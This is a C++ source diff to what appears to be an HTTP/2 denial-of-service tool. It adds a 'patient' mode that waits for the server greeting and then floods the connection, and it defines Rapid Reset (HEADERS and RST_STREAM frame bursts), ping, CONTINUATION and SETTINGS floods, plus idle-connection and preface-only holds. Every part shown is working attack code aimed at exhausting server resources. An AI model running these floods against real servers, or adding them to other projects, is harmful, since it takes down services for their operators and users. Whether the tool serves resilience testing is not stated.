@@ -126,9 +126,17 @@ Effort Hold(const Target& target, std::size_t count, const std::string& opening,
   return effort;
 }
 
-// Sends what `next` makes as fast as it is taken, over a new connection whenever one is cut.
+// Until the other side has said something, or the attack ends.
+void Await(const Target& target, int fd) {
+  pollfd polled{.fd = fd, .events = POLLIN, .revents = 0};
+  while (!*target.stop && poll(&polled, 1, 20) == 0) {
+  }
+}
+
+// Sends what `next` makes as fast as it is taken, over a new connection whenever one is cut. One
+// that is patient waits for the server's greeting first.
 template <class Next>
-Effort Flood(const Target& target, const Next& next) {
+Effort Flood(const Target& target, const Next& next, bool patient = false) {
   Effort effort;
   while (!*target.stop) {
     const int fd = Dial(target);
@@ -139,6 +147,7 @@ Effort Flood(const Target& target, const Next& next) {
     ++effort.connections;
     long number = 0;
     bool open = Send(target, fd, Greeting(), effort);
+    if (patient) Await(target, fd);
     while (open) open = Send(target, fd, next(number++), effort);
     if (!*target.stop) ++effort.cut;
     close(fd);
@@ -165,18 +174,40 @@ Effort IdleConnections(const Target& target) { return Hold(target, 10'000, "", f
 
 Effort PrefaceOnly(const Target& target) { return Hold(target, 500, std::string(kPreface), false); }
 
-Effort RapidReset(const Target& target) {
+namespace {
+
+Effort Reset(const Target& target, bool patient) {
   const std::string headers = CallHeaders();
-  return Flood(target, [&headers](long number) {
-    std::string frames;
-    for (int i = 0; i < 100; ++i) {
-      const auto stream = static_cast<std::uint32_t>(2 * (100 * number + i) + 1);
-      frames += Frame(kHeaders, kEndHeaders, stream, headers) +
-                Frame(kReset, 0, stream, std::string_view("\0\0\0\x08", 4));
-    }
-    return frames;
-  });
+  return Flood(
+      target,
+      [&headers](long number) {
+        std::string frames;
+        for (int i = 0; i < 100; ++i) {
+          const auto stream = static_cast<std::uint32_t>(2 * (100 * number + i) + 1);
+          frames += Frame(kHeaders, kEndHeaders, stream, headers) +
+                    Frame(kReset, 0, stream, std::string_view("\0\0\0\x08", 4));
+        }
+        return frames;
+      },
+      patient);
 }
+
+Effort Ping(const Target& target, bool patient) {
+  std::string pings;
+  for (int i = 0; i < 100; ++i) pings += Frame(kPing, 0, 0, "12345678");
+  return Flood(
+      target, [&pings](long /*number*/) { return pings; }, patient);
+}
+
+}  // namespace
+
+Effort RapidReset(const Target& target) { return Reset(target, false); }
+
+Effort PatientRapidReset(const Target& target) { return Reset(target, true); }
+
+Effort PingFlood(const Target& target) { return Ping(target, false); }
+
+Effort PatientPingFlood(const Target& target) { return Ping(target, true); }
 
 Effort ContinuationFlood(const Target& target) {
   const std::string fields = [] {
@@ -187,12 +218,6 @@ Effort ContinuationFlood(const Target& target) {
   return Flood(target, [&fields](long number) {
     return number == 0 ? Frame(kHeaders, 0, 1, CallHeaders()) : Frame(kContinuation, 0, 1, fields);
   });
-}
-
-Effort PingFlood(const Target& target) {
-  std::string pings;
-  for (int i = 0; i < 100; ++i) pings += Frame(kPing, 0, 0, "12345678");
-  return Flood(target, [&pings](long /*number*/) { return pings; });
 }
 
 Effort SettingsFlood(const Target& target) {
